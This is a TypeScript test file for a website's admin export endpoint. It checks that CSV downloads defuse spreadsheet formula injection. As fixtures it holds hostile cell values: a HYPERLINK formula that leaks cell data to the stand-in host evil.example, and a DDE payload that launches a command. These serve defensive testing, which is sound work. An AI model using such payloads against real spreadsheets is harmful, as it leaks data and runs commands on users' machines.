import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import * as z from 'zod/mini';
import { eventRow } from '#db/seed/factories.ts';
import { contactMessages, events, messageReplies, visitRequests } from '#db/tables.ts';
import { auditEntries } from '../../support/app/audit.ts';
import { adminApp } from '../../support/app/fixtures.ts';
import fc from 'fast-check';
import { BYTE_ORDER_MARK, csvLine } from '#shared/export/export.ts';

const { db, send } = await adminApp();

const download = (file: string) => send('GET', `/api/export/${file}`);
const Rows = z.array(z.record(z.string(), z.string()));
const rowsOf = async (file: string) =>
  Rows.parse(parse(await (await download(file)).text(), { bom: true, columns: true }));
const Records = z.array(z.record(z.string(), z.unknown()));
const recordsOf = async (file: string) => Records.parse(await (await download(file)).json());

const HOSTILE = '=HYPERLINK("https://evil.example/?"&A1,"click")\r\n"quoted", ἀγάπη 🕊️';
const message = { name: HOSTILE, email: 'ruth@example.org', subject: '@SUM(1)', message: '-1' };

describe('GET /api/export/{list}', () => {
  it('is a file to keep, named by the day, that no cache stores', async () => {
    const csv = await download('events.csv');
    expect(csv.status).toBe(200);
    expect(Object.fromEntries(csv.headers)).toMatchObject({
      'content-type': 'text/csv; charset=utf-8; header=present',
      'content-disposition': 'attachment; filename="events-2026-11-20.csv"',
      'cache-control': 'no-store',
    });
    expect(new Uint8Array(await csv.arrayBuffer())).toEqual(new Uint8Array([0xef, 0xbb, 0xbf]));
    expect(await recordsOf('events.json')).toEqual([]);
  });

  it('disarms what visitors wrote in a spreadsheet, and leaves it as it was in JSON', async () => {
    const [stored] = await db.insert(contactMessages).values(message).returning();
    const reply = { to: 'ruth@example.org', subject: 'Re', text: 'Come.', status: 'sent' } as const;
    await db.insert(messageReplies).values({ ...reply, contactMessageId: stored?.id ?? 0 });
    const [row] = await rowsOf('contact-messages.csv');
    expect(row).toMatchObject({ name: `'${HOSTILE}`, subject: `'@SUM(1)`, message: `'-1` });
    expect(row?.replies).toContain('Come.');
    const [record] = await recordsOf('contact-messages.json');
    expect(record).toMatchObject({ ...message, replies: [{ text: 'Come.' }] });
  });

  it('holds every record of a list that is read in several parts', async () => {
    const rows = Array.from({ length: 201 }, (_, index) => eventRow({ title: `Supper ${index}` }));
    await db.insert(events).values(rows);
    const titles = rows.map(({ title }) => title);
    const inSpreadsheet = await rowsOf('events.csv');
    expect(inSpreadsheet.map(({ title }) => title)).toEqual(titles);
    expect(inSpreadsheet[0]?.date).toMatch(/^\d{4}-\d\d-\d\d$/);
    expect((await recordsOf('events.json')).map(({ title }) => title)).toEqual(titles);
  });

  it('leaves an entry in the history', async () => {
    await download('contact-messages.csv');
    const [entry] = await auditEntries(send);
    expect(entry).toMatchObject({
      action: 'downloaded',
      type: 'export',
      title: 'Contact Messages',
    });
    expect(entry?.session).toMatch(/^Browser on unknown device/);
  });

  it('has visit requests and sermons too, and nothing else', async () => {
    const visit = { firstName: 'Ruth', lastName: 'Boaz', email: 'r@example.org', phone: '+1 555' };
    await db.insert(visitRequests).values({ ...visit, visitDate: '2026-11-22' });
    expect(await rowsOf('visit-requests.csv')).toMatchObject([
      { firstName: 'Ruth', phone: "'+1 555", visitDate: '2026-11-22', isProcessed: 'false' },
    ]);
    expect((await download('sermons.csv')).status).toBe(200);
    for (const name of 'sessions.csv sermons.xls sermons sermons.csv.json __proto__.csv'.split(' '))
      expect((await download(name)).status).toBe(404);
  });
});

// An independent CSV parser.
const read = (text: string): unknown => parse(text, { bom: true, relax_quotes: false });

describe('a line of CSV', () => {
  it.each([
    '=1+1',
    '+1',
    '-1',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '\n=1',
    '\t1',
    '\r1',
    '\n1',
    ' =1+1',
    '＝1',
    "=cmd|'/C calc'!A0",
  ])('disarms %j, which a spreadsheet would run', (text) => {
    expect(read(csvLine([text]))).toEqual([[`'${text}`]]);
  });

  it('keeps numbers, yes and no, and what is empty, and writes lists as JSON', () => {
    expect(read(csvLine([-7, true, null, undefined, '', [{ a: '"' }]]))).toEqual([
      ['-7', 'true', '', '', '', '[{"a":"\\""}]'],
    ]);
  });

  it('gives any text back to another reader, after the mark of UTF-8', () => {
    const harmless = fc.string({ unit: 'grapheme' }).map((text) => `a${text}`);
    fc.assert(
      fc.property(fc.array(harmless, { minLength: 1 }), fc.array(harmless), (first, more) => {
        const rows = [first, [...first, ...more].slice(0, first.length)];
        expect(read(BYTE_ORDER_MARK + rows.map(csvLine).join(''))).toEqual(rows);
      }),
    );
  });
});
